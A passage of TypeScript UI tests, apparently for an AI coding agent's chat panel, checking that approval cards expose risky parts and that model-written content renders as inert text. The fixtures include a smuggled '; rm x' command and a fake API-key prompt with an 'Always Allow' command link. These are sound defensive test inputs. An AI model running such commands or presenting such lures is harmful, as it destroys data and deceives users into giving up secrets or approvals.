        ...{ canRemember: true, more: 2 },
      };
      await show([question('q', 'x'), answer('a', '', { state: 'running' })], {
        agent: { mode: 'edit', unavailable: '', todo: [], notice: '', request },
      });
      const { page } = harness;
      const card = page.locator('.request');
      const all = [
        'Run this?',
        'ls',
        '⟨51 blanks⟩',
        '; rm x',
        '2 lines',
        '/home/me/place',
        'rm x',
        'deletes files',
        'it deletes',
      ];
      const read = (await card.ariaSnapshot()).replaceAll('\n', ' ');
      for (const text of [
        ...all,
        'moreRequests',
        'exactContent',
        'target',
        'parts',
        'deny',
        'allowOnce',
        'allowWindow',
      ]) {
        expect(read).toContain(text);
      }
      await page.emulateMedia({ forcedColors: 'active' });
      // What is dangerous is told apart by words, and what was pushed out of sight by its mark; all of it is seen.
      // biome-ignore lint/performance/useDomNodeTextContent: what is laid out, without what is only said to screen readers
      const seen = await card.innerText();
      const hidden = await card.evaluate(
        (root) =>
          [...root.querySelectorAll('.request-card *')].filter((one) => {
            const { color, backgroundColor } = getComputedStyle(one);
            return one.textContent !== '' && (!one.checkVisibility() || color === backgroundColor);
          }).length,
      );
      await page.emulateMedia({ forcedColors: 'none' });
      for (const text of all) {
        expect(seen).toContain(text);
      }
      expect(hidden).toBe(0);
    });

    it('T-102: shows what a model asks for as text, with no other field than one for words', async () => {
      const request: ShownRequest = {
        ...{ kind: 'question', id: 'r', hash: 'h', title: 'The model asks', size: '', targets: [], choices: [] },
        ...{ parts: [], reasons: [], canRemember: false, more: 0 },
        content: 'Paste your API key: <input type="password"> [Always Allow](command:tandem.allow)',
      };
      await show([question('q', 'x'), answer('a', '', { state: 'running' })], {
        agent: { mode: 'edit', unavailable: '', todo: [], notice: '', request },
      });
      const card = harness.page.locator('.request');
      expect(await card.locator('.request-question').textContent()).toBe(request.content);
      expect(await card.locator('a, form, [type="password"]').count()).toBe(0);
      expect(await card.locator('input').evaluateAll((all) => all.map((one) => one.getAttribute('type')))).toEqual([
        'text',
      ]);
      const answers = (['button', 'link'] as const).map((role) => card.getByRole(role).count());
      expect(await Promise.all(answers)).toEqual([1, 0]);
      expect(await card.getByRole('button', { name: 'answerQuestion' }).count()).toBe(1);
    });

    it('keeps the buttons of a long approval in sight', async () => {
      const request: ShownRequest = {
        ...{
          kind: 'approval',
          id: 'r',
          hash: 'h',
          title: 'Run this?',
          size: '200 lines',
          targets: ['/w'],
          choices: [],
        },
        content: Array.from({ length: 200 }, (_, line) => `echo ${line}`).join('\n'),
        parts: Array.from({ length: 200 }, (_, line) => ({ text: `echo ${line}`, note: 'asks', risky: true })),
        ...{ reasons: ['it is not known'], canRemember: true, more: 0 },
      };
      await show([question('q', 'x'), answer('a', '', { state: 'running' })], {
        agent: { mode: 'edit', unavailable: '', todo: [], notice: '', request },
      });
      const bar = await harness.page.locator('.agent-bar').boundingBox();
      const end = (bar?.y ?? 0) + (bar?.height ?? 0);
      for (const scrolled of [0, 600]) {
        await harness.page.locator('.agent-bar').evaluate((element, top) => element.scrollTo(0, top), scrolled);
        for (const name of ['deny', 'allowOnce', 'allowWindow']) {
          const box = await harness.page.locator('.request').getByRole('button', { name, exact: true }).boundingBox();
          expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual(end + 1);
          expect(box?.y).toBeGreaterThan(bar?.y ?? 0);
        }
      }
    });
  });

  it('takes no Enter of an input method, wherever words are written', async () => {
    const asks = (kind: 'approval' | 'question'): ShownRequest => ({
      ...{ kind, id: 'r', hash: 'h', title: 'So?', size: '', targets: [], choices: [] },
      ...{ content: 'make', parts: [], reasons: [], canRemember: false, more: 0 },
    });
    const agentWith = (request: ShownRequest | null) => ({
      agent: { mode: 'edit' as const, unavailable: '', todo: [], notice: '', request },
    });
    /** Enter as browsers tell it while signs are chosen, and as some tell the one that chose them; then a real one. */
    const enter = (init: { readonly isComposing?: boolean; readonly keyCode?: number }): Promise<void> =>
      harness.page.evaluate((how) => {
        const event = new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true, ...how });
        document.activeElement?.dispatchEvent(event);
      }, init);
    const { page } = harness;
    const judge = async (): Promise<void> => {
      await page.locator('.answer').getByRole('button', { name: 'bad', exact: true }).click();
      await show([question('q', 'x'), answer('a', 'y', { feedback: 'bad' })]);
    };
    const fields: readonly (readonly [ToHost['method'], string, ShownRequest | null, () => Promise<void>])[] = [
      ['send', '.composer-text', null, async () => {}],
      ['edit', '.edit-area', null, () => page.locator('.question .edit').click()],
      ['feedback', '.reason', null, judge],
      ['answerRequest', '.request-reason', asks('approval'), async () => {}],
      ['answerRequest', '.request-reason', asks('question'), async () => {}],
    ];
    for (const [method, field, request, open] of fields) {
      await harness.load();
      await expect.poll(() => told.at(-1)?.method, { timeout: 30_000 }).toBe('ready');
      await show([question('q', 'x'), answer('a', 'y')], agentWith(request));
      await open();
      await page.locator(field).fill('ni');
      told.length = 0;
      await enter({ isComposing: true });
      await enter({ keyCode: 229 });
      await harness.painted();
      expect(
        told.filter((message) => message.method === method),
        `${field} ${request?.kind}`,
      ).toEqual([]);
      await enter({});
      await expect.poll(() => told.map((message) => message.method), { timeout: 30_000 }).toContain(method);
    }
  });

  it('shows for how long nothing has come, and does not read it out each second', async () => {
    // From here on the page's clock is ours.
    await harness.page.clock.install();
    await harness.load();
    await expect.poll(() => told.filter(({ method }) => method === 'ready').length, { timeout: 30_000 }).toBe(2);
    const timed = { ...words, elapsedSeconds: '{0} s', elapsedMinutes: '{0} min {1} s' };
    const running = answer('a', '', { state: 'running' });
    await show([question('q', 'x'), running], { words: timed, status: { ...state([]).status, running: 'a' } });
    const waiting = harness.page.locator('.waiting');
    const passes = (seconds: number): Promise<void> => harness.page.clock.runFor(1000 * seconds);
    expect(await waiting.textContent()).toBe('thinking');
    await passes(12);
    expect(await waiting.textContent()).toMatch(/^thinking1[123] s$/);
    await passes(60);
    expect(await waiting.textContent()).toMatch(/^thinking1 min 1[1-5] s$/);
    // What changes each second is no live region, and what is one has not changed.
    const timer = waiting.locator('[role="timer"]');
    expect(await timer.getAttribute('aria-live')).toBe('off');
    expect(await harness.page.locator('.conversation > [role="status"]').textContent()).toBe('answering');
    // An answer that falls silent in the middle of it, or in a call; not while the person is asked.
    await harness.post({ method: 'delta', params: { id: 'a', text: 'Hello', reasoning: '' } });
    await harness.painted();
    expect(await waiting.isHidden()).toBe(true);
    await passes(8);
    expect(await waiting.textContent()).toMatch(/^nothingNew[789] s$/);
    const call: ShownCall = {
      ...{ id: 'k', at: 5, what: 'Run', where: 'make', input: '', output: '' },
      state: 'waiting',
    };
    await harness.post({ method: 'call', params: { answer: 'a', call } });
    await passes(8);
    expect(await waiting.isHidden()).toBe(true);
    await harness.post({ method: 'call', params: { answer: 'a', call: { ...call, state: 'running' } } });
    await passes(8);
    expect(await waiting.textContent()).toMatch(/^nothingNew[789] s$/);
    // A page that was made anew goes on from where the other one was.
    await harness.post({ method: 'message', params: { ...running, quietSeconds: 100 } });
    await harness.painted();
    expect(await waiting.textContent()).toMatch(/^thinking1 min 4\d s$/);
    await harness.post({ method: 'message', params: answer('a', 'Hello') });
    await harness.painted();
    expect(await waiting.isHidden()).toBe(true);
  });
});
